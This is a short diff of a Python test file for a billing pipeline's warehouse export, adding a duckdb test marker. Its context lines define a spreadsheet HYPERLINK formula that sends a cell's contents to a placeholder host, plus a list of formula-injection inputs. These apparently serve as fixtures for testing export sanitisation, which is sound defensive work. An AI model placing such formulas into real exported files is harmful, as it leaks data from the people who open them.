@@ -16,6 +16,8 @@ from billing_pipeline.warehouse import Warehouse
 from billing_pipeline.warehouse.exporting import EXPORTABLE, export_period, file_name
 from billing_pipeline_tests.warehouse.reports import OTHER_CUSTOMER, SEPTEMBER, load, query, row, storage
 
+pytestmark = pytest.mark.duckdb
+
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Rechnung")'
 DANGEROUS = [
     FORMULA, "+49 (0)89 1234", "-1+1 Agentur", "@home Services", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "－1",
